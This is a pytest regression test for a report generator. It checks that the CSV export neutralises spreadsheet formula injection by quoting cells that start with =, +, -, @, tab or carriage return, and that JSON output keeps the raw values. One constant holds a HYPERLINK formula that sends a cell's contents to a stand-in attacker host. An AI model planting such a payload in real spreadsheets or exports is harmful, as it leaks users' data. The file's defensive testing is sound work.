"""The CSV export cannot run a formula in a spreadsheet; metrics.json keeps values as they are.

Regression: a product named ``=HYPERLINK(...)`` was exported as is, and a spreadsheet
opening ``csv/carts.top_abandoned_skus.csv`` ran it (CSV injection). OWASP's rule: a text
cell starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return gets a leading ``'``.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from reportgen.archive.publish import write_tables_csv
from reportgen.config import config_from_dict
from reportgen.periods import month_period
from reportgen.report.build import build_report

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def read(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as stream:
        return list(csv.reader(stream))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-2", "'-2"),  # text that looks like a number is still text
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Mug = cup", "Mug = cup"),
        ("", ""),
        (-3.5, "-3.5"),  # real negative numbers stay numbers
        (-2, "-2"),
        (0, "0"),
        (None, ""),
    ],
)
def test_text_cells_that_start_a_formula_are_quoted(tmp_path, value, written):
    write_tables_csv(tmp_path, {"t": [{"cell": value}]})
    assert read(tmp_path / "t.csv") == [["cell"], [written]]


def test_headers_and_missing_cells(tmp_path):
    write_tables_csv(
        tmp_path,
        {"rows": [{"a": 1}, {"a": 2, "=b": "x"}], "empty": []},
        headers={"empty": ["-delta", "name"]},
    )
    assert read(tmp_path / "rows.csv") == [["a", "'=b"], ["1", ""], ["2", "x"]]
    assert read(tmp_path / "empty.csv") == [["'-delta", "name"]]


def test_a_build_neutralises_the_csv_only(tmp_path, make_db):
    db = make_db(
        carts=[("c1", "u1", "2024-03-05 10:00:00", "abandoned")],
        cart_items=[("c1", "p1", 2, 10.0)],
        products=[("p1", EVIL, "@category")],
        customers=[("u1", "-referral", "+gold", "high", 30)],
    )
    config = config_from_dict(
        {"source": {"url": f"sqlite:///{db}"}, "report": {"trend_periods": 0}}, base_dir=tmp_path
    )
    result = build_report(config, month_period("2024-03"), output=tmp_path / "r", pdf=False)
    metrics = json.loads((result.folder / "metrics.json").read_text())
    skus = metrics["tables"]["carts.top_abandoned_skus"]
    assert (skus[0]["name"], skus[0]["category"]) == (EVIL, "@category")
    rows = read(result.folder / "csv" / "carts.top_abandoned_skus.csv")
    row = dict(zip(rows[0], rows[1], strict=True))
    assert (row["name"], row["category"]) == ("'" + EVIL, "'@category")
    assert row["abandoned_value"] == "20.0"
    customers = read(result.folder / "csv" / "carts.savable_customers.csv")
    customer = dict(zip(customers[0], customers[1], strict=True))
    assert (customer["signup_channel"], customer["loyalty_tier"]) == ("'-referral", "'+gold")
